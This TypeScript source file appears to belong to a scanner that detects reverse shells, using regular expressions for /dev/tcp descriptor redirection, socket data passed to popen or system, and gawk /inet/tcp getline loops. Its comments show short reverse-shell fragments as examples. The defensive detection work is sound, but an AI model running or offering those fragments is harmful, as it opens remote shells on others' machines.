import { inOrder, type ShellMatch, toMatch } from './match.ts';
import { SHELL } from './words.ts';

/*
 * Shapes of a reverse shell where a name ties two places together: the descriptor that was connected and the shell
 * that gets it, the variable that was received and the call that runs it. One expression with a back reference and
 * two gaps would try every pair of gaps; here the first place is found, and what follows is looked at once.
 */

interface TiedShape {
  readonly opens: RegExp;
  /** Characters after the opening that are looked at. */
  readonly span: number;
  /** Whether what follows uses what the opening named. */
  readonly uses: (opening: RegExpExecArray, tail: string) => boolean;
}

const SHELL_ON_DESCRIPTOR = new RegExp(`${SHELL}[^\\n;|]{0,30}[<>]&\\s{0,2}(\\d{1,3})(?!\\d)`, 'g');
const LOOP_ON_DESCRIPTOR =
  /\bread\b[^\n;]{0,60}[;\n]\s{0,8}do\s{1,8}(?:eval\s{1,4}|(?:ba)?sh\s{1,4}-c\s{1,4})?["']?\$\{?\w{1,40}\}?["']?[^\n;]{0,40}>&\s{0,2}(\d{1,3})/g;
const RUN_CALL =
  /\b(?:popen|system|Popen|check_output|getoutput|getstatusoutput)\s{0,4}\(\s{0,4}(\w{1,30})\b/g;
const GETS_LINE = /\|&\s{0,4}getline\s{1,4}(\w{1,20})/g;
const RUNS_LINE = /(\w{1,20})\s{0,4}\|&?\s{0,4}getline/g;

const SHAPES: readonly TiedShape[] = [
  // exec 5<>/dev/tcp/h/p; sh <&5 >&5, or: cat <&5 | while read line; do $line >&5; done
  {
    opens: /(?<!\d)(\d{1,3})<>\s{0,4}\/dev\/(?:tcp|udp)\/[^\s;]{1,80}/g,
    span: 320,
    uses: ([, descriptor = ''], tail) =>
      [SHELL_ON_DESCRIPTOR, LOOP_ON_DESCRIPTOR].some((pattern) => namesIn(tail, pattern).has(descriptor)),
  },
  // d = s.recv(1024).decode(); os.popen(d)
  {
    opens: /\b(\w{1,30})\s{0,4}=\s{0,4}\w{1,30}\.recv\(\s{0,4}\d{1,6}\s{0,4}\)/g,
    span: 360,
    uses: ([, name = ''], tail) => namesIn(tail, RUN_CALL).has(name),
  },
  // gawk: "/inet/tcp/0/h/p" |& getline c; while ((c |& getline) > 0)
  {
    opens: /\/inet[46]?\/tcp\/\d{1,5}\//g,
    span: 500,
    uses: (_opening, tail) => !namesIn(tail, GETS_LINE).isDisjointFrom(namesIn(tail, RUNS_LINE)),
  },
];

/** Every place where a connection, or what came over it, is given to a shell by name. */
export function findConnectionUse(text: string): Generator<ShellMatch> {
  return inOrder(...SHAPES.map((shape) => findShape(text, shape)));
}

function* findShape(text: string, { opens, span, uses }: TiedShape): Generator<ShellMatch> {
  for (const opening of text.matchAll(opens)) {
    const end = opening.index + opening[0].length;
    const tail = text.slice(end, end + span);
    if (uses(opening, tail)) yield toMatch(opening.index, opening[0] + tail.slice(0, 80));
  }
}

function namesIn(tail: string, pattern: RegExp): Set<string> {
  return new Set([...tail.matchAll(pattern)].map(([, name = '']) => name));
}
